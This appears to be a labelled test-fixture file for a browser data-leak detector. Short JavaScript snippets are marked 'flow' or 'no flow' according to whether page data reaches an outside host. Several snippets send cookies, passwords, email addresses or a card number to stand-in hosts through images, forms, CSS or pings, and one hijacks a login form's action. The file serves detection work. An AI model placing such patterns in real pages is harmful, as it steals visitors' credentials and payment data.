//# new-image-src
// flow: email > px.img.example via image
new Image().src = 'https://px.img.example/p.gif?e=' + encodeURIComponent(document.querySelector('input[type=email]').value);

//# img-alt-only
// no flow
// why: the address goes to the alternative text, the src is constant
const avatar = document.createElement('img');
avatar.alt = document.querySelector('input[type=email]').value;
avatar.src = 'https://static.img.example/avatar.png';
document.body.appendChild(avatar);

//# img-by-innerhtml
// flow: identifier > inner.img.example via image
// why: an img set by innerHTML loads even if its parent is never attached
const holder = document.createElement('div');
holder.innerHTML = '<img width=1 height=1 src="https://inner.img.example/c?' + escape(document.cookie) + '">';

//# script-by-innerhtml
// no flow
// why: a script set by innerHTML is never fetched
const slot = document.querySelector('#slot');
slot.innerHTML = '<script src="https://inner.script.example/c.js?' + escape(document.cookie) + '"></' + 'script>';

//# img-in-template
// no flow
// why: the content of a template is inert
const tpl = document.createElement('template');
tpl.innerHTML = `<img src="https://tpl.img.example/x?e=${document.querySelector('input[type=email]').value}">`;
console.log(tpl.content.childElementCount);

//# script-appended
// flow: search > jsonp.script.example via script
var s = document.createElement('script');
s.src = '//jsonp.script.example/suggest?callback=cb&q=' + encodeURIComponent(document.querySelector('input[type=search]').value);
document.head.appendChild(s);

//# script-not-attached
// no flow
// why: a script element outside of the document is not fetched
var loose = document.createElement('script');
loose.src = 'https://loose.script.example/s?q=' + encodeURIComponent(document.querySelector('input[type=search]').value);

//# iframe-src-set-attribute
// flow: identifier > sync.frame.example via iframe
const f = document.createElement('iframe');
f.setAttribute('src', 'https://sync.frame.example/match?u=' + localStorage.getItem('uid'));
f.style.display = 'none';
document.body.append(f);

//# iframe-data-attribute
// no flow
// why: data-src is a plain attribute that nothing here turns into a src
const lazy = document.createElement('iframe');
lazy.setAttribute('data-src', 'https://lazy.frame.example/?u=' + localStorage.getItem('uid'));
document.body.append(lazy);

//# link-stylesheet
// flow: device > theme.link.example via link
const l = document.createElement('link');
l.rel = 'stylesheet';
l.href = `https://theme.link.example/t.css?tz=${Intl.DateTimeFormat().resolvedOptions().timeZone}`;
document.head.appendChild(l);

//# link-canonical
// no flow
// why: rel=canonical is never fetched
const canon = document.createElement('link');
canon.rel = 'canonical';
canon.href = `https://canon.link.example/?q=${document.querySelector('input[type=search]').value}`;
document.head.appendChild(canon);

//# css-background
// flow: password > bg.css.example via css
document.querySelector('#box').style.backgroundImage =
  'url(https://bg.css.example/' + encodeURIComponent(document.querySelector('input[type=password]').value) + ')';

//# style-sheet-import
// flow: identifier > imp.css.example via css
const st = document.createElement('style');
st.textContent = '@import url("https://imp.css.example/v.css?id=' + localStorage.getItem('vid') + '");';
document.head.append(st);

//# css-color
// no flow
// why: the colour chosen by the person styles the page; the only url() is constant
const box = document.querySelector('#box');
box.style.color = document.querySelector('input[type=color]').value;
box.style.backgroundImage = 'url(https://tile.css.example/dots.png)';

//# form-built-and-submitted
// flow: card > pay.form.example via form
var form = document.createElement('form');
form.method = 'POST';
form.action = 'https://pay.form.example/charge';
var field = document.createElement('input');
field.type = 'hidden';
field.name = 'pan';
field.value = document.querySelector('input[autocomplete=cc-number]').value;
form.appendChild(field);
document.body.appendChild(form);
form.submit();

//# form-detached-submit
// no flow
// why: submit() of a form outside of the document does nothing
var off = document.createElement('form');
off.action = 'https://detached.form.example/x';
off.innerHTML = '<input name=p>';
off.elements.p.value = document.querySelector('input[type=password]').value;
off.submit();

//# form-action-rewritten
// flow: input > steal.form.example via form
const login = document.forms[0];
login.addEventListener('submit', () => { login.action = 'https://steal.form.example/in'; });

//# form-field-without-name
// flow: email > named.form.example via form
// why: near miss: the input that holds the password has no name, so the browser leaves it out
var nf = document.createElement('form');
nf.action = 'https://named.form.example/s';
var a1 = document.createElement('input');
a1.name = 'email';
a1.value = document.querySelector('input[type=email]').value;
var a2 = document.createElement('input');
a2.value = document.querySelector('input[type=password]').value;
nf.append(a1, a2);
document.body.append(nf);
nf.submit();

//# anchor-ping
// flow: identifier > hit.ping.example via ping
document.querySelectorAll('a.out').forEach((a) => {
  a.ping = 'https://hit.ping.example/c?v=' + encodeURIComponent(document.cookie);
});

//# audio-new
// flow: identifier > au.media.example via audio
new Audio('https://au.media.example/beep.mp3?u=' + localStorage.getItem('uid')).play();

//# video-blob-url
// no flow
// why: the chosen file is played from a blob: address, nothing leaves; the poster is constant
const v = document.querySelector('video');
v.src = URL.createObjectURL(document.querySelector('input[type=file]').files[0]);
v.poster = 'https://poster.media.example/p.jpg';

//# video-source
// flow: device > vid.media.example via video
const vid = document.createElement('video');
vid.src = `https://vid.media.example/a.mp4?w=${screen.width}&dpr=${devicePixelRatio}`;
vid.load();

//# object-data
// flow: identifier > obj.embed.example via object
const o = document.createElement('object');
o.data = 'https://obj.embed.example/w.svg?u=' + localStorage.getItem('uid');
document.body.appendChild(o);

//# image-data-url
// no flow
// why: a data: address makes no request
const preview = new Image();
preview.src = 'data:image/svg+xml,' + encodeURIComponent('<svg><text>' + document.querySelector('input[type=email]').value + '</text></svg>');
document.body.append(preview);
